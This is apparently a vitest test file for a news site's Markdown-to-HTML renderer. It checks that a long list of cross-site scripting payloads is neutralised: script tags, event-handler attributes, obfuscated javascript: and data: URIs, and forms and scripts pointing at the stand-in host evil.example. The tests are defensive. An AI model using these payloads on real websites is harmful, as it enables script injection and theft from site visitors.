import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { runs } from '../long.ts';
import { renderHtml } from '../../src/parser/render-html.ts';
import { readMarkdownBody, readWireCopy } from './reading.ts';

function htmlOf(markdown: string, options: Parameters<typeof renderHtml>[1] = {}): string {
  const { article } = readMarkdownBody(`The story.\n\n${markdown}\n`);
  return renderHtml(article!.body, options).replace('<p>The story.</p>\n', '');
}

// What the schema of a news page has; a quoted value ends at the next quotation mark and at nothing else.
const TAGS =
  /<\/?(?:p|a|em|strong|del|h[2-6]|ul|ol|li|blockquote|code|pre|table|thead|tbody|tr|th|td|hr|br|img|input|section|sup|span)(?: (?:href|rel|src|alt|title|class|id|loading|start|type|checked|disabled|data-[a-z-]+|aria-[a-z]+|dir)(?:="[^"]*")?)*>/g;

describe('Markdown as readers get it', () => {
  it.each([
    ['*a* **b** ~~c~~ `d`', '<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>'],
    ['> a', '<blockquote>\n<p>a</p>\n</blockquote>'],
    ['a  \nb', '<p>a<br>\nb</p>'],
    ['# a', '<h2 id="a">a</h2>'],
  ])('%j', (markdown, html) => {
    expect(htmlOf(markdown)).toBe(html);
  });

  it('tables, lists and footnotes come through', () => {
    const html = htmlOf('a | b\n-|-:\nc | d\n\n1. x\n2. y\n\nWord[^1]\n\n[^1]: The note.');
    expect(html).toContain('<td class="end">d</td>');
    expect(html).toContain('<li>y</li>');
    expect(html).toContain('The note.');
    const target = /href="#([^"]+)"/.exec(html)?.[1];
    expect(html).toContain(`id="${target}"`);
  });

  it('quotation marks and dashes stay as typed', () => {
    const typed = '“He’s" -- \'so\' — … it (c) 1/2 "quoted"';
    expect(htmlOf(typed).replaceAll('&#x22;', '"')).toContain(typed);
  });

  it('links to elsewhere say so, and tell nothing of the reader', () => {
    for (const markdown of [
      '[a](https://b.example/c)',
      '<https://b.example/c>',
      'https://b.example/c',
      '[a](//b.example/c)',
    ])
      expect(htmlOf(markdown)).toMatch(
        /<a href="(?:https:)?\/\/b\.example\/c" rel="external noopener noreferrer">/,
      );
  });

  it('links and pictures of the site stand under its base', () => {
    const html = htmlOf('[a](/about/) ![b](/images/b.jpg) [c](#d) [e](https://f.example/)', {
      base: '/news',
    });
    expect(html).toContain('<a href="/news/about/">');
    expect(html).toContain('src="/news/images/b.jpg"');
    expect(html).toContain('href="#d"');
    expect(html).toContain('href="https://f.example/"');
    expect(htmlOf('[a](/about/)')).toContain('<a href="/about/">');
  });

  it('the dateline stands at the head of the first paragraph, as text', () => {
    const { article } = readMarkdownBody('The story.');
    expect(renderHtml(article!.body, { dateline: 'SEOUL <b>' })).toBe(
      '<p><span class="dateline">SEOUL &#x3C;b></span> — The story.</p>',
    );
  });

  it('the dateline is found its place below a heading', () => {
    const { article } = readMarkdownBody('## Part one\n\nThe story.');
    expect(renderHtml(article!.body, { dateline: 'SEOUL' })).toBe(
      '<h2 id="part-one">Part one</h2>\n<p><span class="dateline">SEOUL</span> — The story.</p>',
    );
  });
});

const ATTACKS = [
  '<script>alert(1)</script>',
  'a <script>alert(1)</script> b',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  'a <img/src=x/onerror=alert(1)> b',
  '<svg/onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext></p><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">a</a>',
  '<style>*{background:url(//evil.example)}</style>',
  '<form action=//evil.example><input name=a></form>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<div\nonclick="alert(1)"\n>words',
  '<<b>script>alert(1)<</b>/script>',
  '<scr<script>ipt>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!-- x --!><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo "<script>alert(1)</script>" ?>',
  '> <script>alert(1)</script>',
  '- <script>alert(1)</script>\n\n  <img src=x onerror=alert(1)>',
  'x[^1]\n\n[^1]: <script>alert(1)</script>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](&#x6A;avascript&#58;alert(1))',
  '[a](java&#10;script:alert(1))',
  '[a](java&#x09;script:alert(1))',
  '[a](&#1;javascript:alert(1))',
  '[a](<  javascript:alert(1)>)',
  '[a](<\u00a0javascript:alert(1)>)',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](file:///etc/passwd)',
  '[a](blob:https://a.example/b)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[a][b]\n\n[b]: javascript:alert(1)',
  '![a](javascript:alert(1))',
  '![a" onerror="alert(1)](/images/a.jpg)',
  '[a](https://b.example "x\\" onmouseover=\\"alert(1)")',
  '[a](https://b.example/"onmouseover="alert(1))',
  '`<script>alert(1)</script>`',
  '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '# a <img src=x onerror=alert(1)>',
  'a|b\n-|-\n<script>alert(1)</script>|<img src=x onerror=alert(1)>',
];

/** Every tag that is none of a story's, and every address that is none a story may lead to. */
function dangersIn(html: string): string[] {
  const tags = html.replace(TAGS, '').match(/<[a-z/!?][^]{0,40}/gi) ?? [];
  const links = [...(html.match(TAGS) ?? []).join('').matchAll(/ (?:href|src)="([^"]*)"/g)];
  const elsewhere = links.map(([, link = '']) => link).filter((link) => !SAFE_LINK.test(link));
  return [...tags, ...elsewhere];
}

const SAFE_LINK = /^(?:https?:\/\/|mailto:|ircs?:|xmpp:|\/|#|[^:]*$)/;

describe('what must not reach a reader', () => {
  it.each(ATTACKS)('Markdown: %j', (attack) => {
    expect(dangersIn(htmlOf(`${attack}\n\nThe end.`))).toEqual([]);
  });

  it.each(ATTACKS)('wire copy shows as text: %j', (attack) => {
    const typed = attack.replace(/\s+/g, ' ').trim();
    const { article } = readWireCopy(`date 2023-09-14\n\n- Kim\n\n-\n\n${typed}\n`);
    const html = renderHtml(article!.body);
    // A bare address in it is a link.
    const shown = html
      .replace(/^<p>|<\/p>$/g, '')
      .replace(/<a href="https:\/\/[^"<>]*" rel="[a-z ]*">|<\/a>/g, '');
    expect(shown).not.toMatch(/<[a-z/!?]/i);
    expect(shown.replaceAll('&#x3C;', '<').replaceAll('&#x26;', '&')).toBe(typed);
  });

  it('whatever is typed, Markdown of pieces of attacks is safe', () => {
    const piece = fc.constantFrom(
      ...ATTACKS,
      ...'<>[]()"\'`&;:/!*_~|\\\n \t-#',
      '<a',
      '<b>',
      '](',
      'javascript:',
      'onload=',
      '\n\n',
      '&lt;',
      '<!--',
      '-->',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const { article } = readMarkdownBody(`The story.\n\n${pieces.join('')}`);
        expect(article ? dangersIn(renderHtml(article.body)) : []).toEqual([]);
      }),
      { numRuns: runs(1500) },
    );
  });
});
